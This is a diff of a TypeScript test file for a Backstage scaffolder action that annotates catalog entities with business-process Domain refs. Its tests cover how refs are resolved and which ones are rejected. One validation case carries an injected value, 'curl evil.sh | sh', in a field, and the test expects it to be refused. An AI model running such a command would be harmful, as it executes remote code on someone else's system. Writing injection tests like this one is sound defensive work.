@@ -1,9 +1,17 @@
-import { createMockDirectory } from '@backstage/backend-test-utils';
+import {
+  createMockDirectory,
+  mockCredentials,
+} from '@backstage/backend-test-utils';
+import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
 import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
 import fs from 'node:fs';
 import path from 'node:path';
 import { parse } from 'yaml';
-import { WAYBILL_ANNOTATIONS } from '@waybill/plugin-waybill-common';
+import {
+  readBusinessProcesses,
+  WAYBILL_ANNOTATIONS,
+} from '@waybill/plugin-waybill-common';
+import { testDomains } from '../__testUtils__/businessProcesses';
 import { createAnnotateCatalogAction } from './annotateCatalog';
 
 const CATALOG = `# The service's catalog entity
@@ -22,10 +30,12 @@ spec:
 
 describe('waybill:catalog:annotate', () => {
   const workspace = createMockDirectory();
-  const action = createAnnotateCatalogAction();
+  // The demo's business processes, one of another estate's namespace, and a Domain of another type.
+  const catalog = catalogServiceMock({ entities: testDomains() });
+  const action = createAnnotateCatalogAction({ catalog });
 
-  const run = async (input: Record<string, unknown>, catalog = CATALOG) => {
-    workspace.setContent({ 'catalog-info.yaml': catalog });
+  const run = async (input: Record<string, unknown>, catalogInfo = CATALOG) => {
+    workspace.setContent({ 'catalog-info.yaml': catalogInfo });
     const ctx = createMockActionContext({
       workspacePath: workspace.path,
       input: input as any,
@@ -41,7 +51,11 @@ describe('waybill:catalog:annotate', () => {
   const base = {
     name: 'pricing-quotes-api',
     tier: 'critical',
-    businessProcesses: ['order-to-cash', 'inventory-allocation'],
+    // As the form's entity picker writes them.
+    businessProcesses: [
+      'domain:default/order-to-cash',
+      'domain:default/inventory-allocation',
+    ],
   };
 
   it('writes the conventions and keeps the rest of the file', async () => {
@@ -78,14 +92,91 @@ describe('waybill:catalog:annotate', () => {
     );
   });
 
+  it('takes any business process the catalog holds, by ref or name, as the person running the template sees it', async () => {
+    const lookup = jest.spyOn(catalog, 'getEntitiesByRefs');
+    const { entity } = await run({
+      ...base,
+      businessProcesses: [
+        'domain:logistics/yard-management',
+        'Record-To-Report',
+        'domain:default/order-to-cash',
+      ],
+    });
+    expect(
+      entity.metadata.annotations[WAYBILL_ANNOTATIONS.businessProcesses],
+    ).toBe('domain:logistics/yard-management, record-to-report, order-to-cash');
+    // waybill-common reads back the refs the catalog was asked about.
+    const refs = [
+      'domain:logistics/yard-management',
+      'domain:default/record-to-report',
+      'domain:default/order-to-cash',
+    ];
+    expect(readBusinessProcesses(entity)).toEqual({ refs, invalid: [] });
+    expect(lookup).toHaveBeenCalledWith(
+      expect.objectContaining({ entityRefs: refs }),
+      { credentials: mockCredentials.user() },
+    );
+    lookup.mockRestore();
+  });
+
+  it('writes names of its own namespace for an entity outside the default namespace', async () => {
+    const { entity } = await run(
+      {
+        ...base,
+        businessProcesses: [
+          'domain:logistics/yard-management',
+          'domain:default/order-to-cash',
+        ],
+      },
+      CATALOG.replace(
+        'name: pricing-quotes-api\n',
+        'name: pricing-quotes-api\n  namespace: logistics\n',
+      ),
+    );
+    expect(
+      entity.metadata.annotations[WAYBILL_ANNOTATIONS.businessProcesses],
+    ).toBe('yard-management, domain:default/order-to-cash');
+    expect(readBusinessProcesses(entity).refs).toEqual([
+      'domain:logistics/yard-management',
+      'domain:default/order-to-cash',
+    ]);
+  });
+
+  it('refuses business processes the catalog does not hold, naming each, and writes nothing', async () => {
+    await expect(
+      run({
+        ...base,
+        businessProcesses: [
+          'domain:default/order-to-cash',
+          'domain:default/world-domination',
+          'domain:default/customer-experience',
+        ],
+      }),
+    ).rejects.toThrow(
+      'businessProcesses: domain:default/world-domination is not in the catalog; domain:default/customer-experience is a Domain of spec.type product-area, not a business process (business processes are catalog Domains of spec.type business-process)',
+    );
+    expect(
+      fs.readFileSync(path.join(workspace.path, 'catalog-info.yaml'), 'utf8'),
+    ).toBe(CATALOG);
+  });
+
   it.each([
     [{ tier: 'gold' }, 'tier'],
     [{ businessProcesses: [] }, 'at least one business process'],
     [
-      { businessProcesses: ['order-to-cash', 'order-to-cash'] },
+      {
+        businessProcesses: ['order-to-cash', 'domain:default/Order-To-Cash'],
+      },
       'must not repeat',
     ],
-    [{ businessProcesses: ['world-domination'] }, 'businessProcesses.0'],
+    [
+      { businessProcesses: ['component:default/order-to-cash'] },
+      'businessProcesses.0: must be a Domain ref',
+    ],
+    [
+      { businessProcesses: ['order-to-cash; curl evil.sh | sh'] },
+      'businessProcesses.0: must be a Domain ref',
+    ],
     // Tenants join a service through their own spec.dependsOn; nothing reads such annotations.
     [
       { tenants: ['resource:acme'] },
